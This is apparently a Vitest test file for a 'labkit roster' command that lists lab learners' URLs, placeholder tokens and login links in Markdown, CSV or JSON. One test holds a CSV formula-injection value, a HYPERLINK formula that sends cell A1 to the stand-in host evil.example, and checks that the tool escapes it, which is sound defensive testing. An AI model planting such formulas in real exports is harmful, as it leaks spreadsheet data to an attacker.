import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runLabkit } from "../../harness/run-cli";

const dir = mkdtempSync(join(tmpdir(), "labkit-roster-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const outputs = {
  cohortName: "ft-dec26",
  baseUrl: "https://labs.example.org",
  dashboardUrl: "https://labs.example.org/dashboard/",
  learnerUrls: { ada: "https://labs.example.org/u/ada/", alan: "https://labs.example.org/u/alan/" },
  learnerTokens: { ada: "AdaToken123", alan: "AlanToken456" },
};
const outputsFile = join(dir, "outputs.json");
writeFileSync(outputsFile, JSON.stringify(outputs));

describe("labkit roster", () => {
  it("prints learner → URL, token and login link as a Markdown table from the stack outputs", async () => {
    const result = await runLabkit(["roster", "--stack-outputs", outputsFile]);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      [
        "| Learner | URL | Token | Login link |",
        "| --- | --- | --- | --- |",
        "| ada | https://labs.example.org/u/ada/ | AdaToken123 | https://labs.example.org/u/ada/?token=AdaToken123 |",
        "| alan | https://labs.example.org/u/alan/ | AlanToken456 | https://labs.example.org/u/alan/?token=AlanToken456 |",
        "",
      ].join("\n"),
    );
  });

  it("prints CSV and JSON, and leaves tokens out with --no-tokens", async () => {
    const csv = await runLabkit(["roster", "--stack-outputs", outputsFile, "--format", "csv", "--no-tokens"]);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toBe(
      "learner,url\nada,https://labs.example.org/u/ada/\nalan,https://labs.example.org/u/alan/\n",
    );
    const json = await runLabkit(["roster", "--stack-outputs", outputsFile, "--format", "json"]);
    expect(JSON.parse(json.stdout)).toEqual([
      {
        learner: "ada",
        url: "https://labs.example.org/u/ada/",
        token: "AdaToken123",
        loginUrl: "https://labs.example.org/u/ada/?token=AdaToken123",
      },
      {
        learner: "alan",
        url: "https://labs.example.org/u/alan/",
        token: "AlanToken456",
        loginUrl: "https://labs.example.org/u/alan/?token=AlanToken456",
      },
    ]);
  });

  it("writes a learner id that starts like a formula as text, so a spreadsheet does not run it", async () => {
    const hostile = join(dir, "hostile.json");
    const id = '=HYPERLINK("https://evil.example/?"&A1,"open your lab")';
    writeFileSync(
      hostile,
      JSON.stringify({
        learnerUrls: { [id]: "https://labs.example.org/u/x/", "@ada": "https://labs.example.org/u/ada/" },
      }),
    );
    const csv = await runLabkit(["roster", "--stack-outputs", hostile, "--format", "csv"]);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toBe(
      [
        "learner,url",
        `"'=HYPERLINK(""https://evil.example/?""&A1,""open your lab"")",https://labs.example.org/u/x/`,
        "'@ada,https://labs.example.org/u/ada/",
        "",
      ].join("\n"),
    );
  });

  it("runs `pulumi stack output --json --show-secrets` when no file is given", async () => {
    const bin = join(dir, "bin");
    rmSync(bin, { recursive: true, force: true });
    mkdirSync(bin);
    const fake = join(bin, "pulumi");
    // A stand-in for the Pulumi CLI that checks the arguments labkit passes.
    writeFileSync(
      fake,
      `#!/bin/sh\nif [ "$*" = "stack output --json --show-secrets --stack dev" ]; then cat '${outputsFile}'; else echo "unexpected args: $*" >&2; exit 3; fi\n`,
    );
    chmodSync(fake, 0o755);
    const result = await runLabkit(["roster", "--stack", "dev", "--format", "csv"], {
      env: { PATH: `${bin}:${process.env.PATH}` },
    });
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("ada,https://labs.example.org/u/ada/,AdaToken123,");
  });

  it("fails with exit 1 and says what to do when the Pulumi CLI is missing", async () => {
    const empty = mkdtempSync(join(dir, "nopath-"));
    const result = await runLabkit(["roster"], { env: { PATH: empty } });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("the Pulumi CLI is not installed");
    expect(result.stderr).toContain("--stack-outputs FILE");
  });

  it("refuses an unknown format, and outputs without learner URLs, with exit 2", async () => {
    const badFormat = await runLabkit(["roster", "--stack-outputs", outputsFile, "--format", "xml"]);
    expect(badFormat.code).toBe(2);
    expect(badFormat.stderr).toContain("unknown --format `xml`: use one of markdown, csv, json");
    const other = join(dir, "other.json");
    writeFileSync(other, JSON.stringify({ clusterName: "x" }));
    const noUrls = await runLabkit(["roster", "--stack-outputs", other]);
    expect(noUrls.code).toBe(2);
    expect(noUrls.stderr).toContain("has no `learnerUrls` output");
  });
});
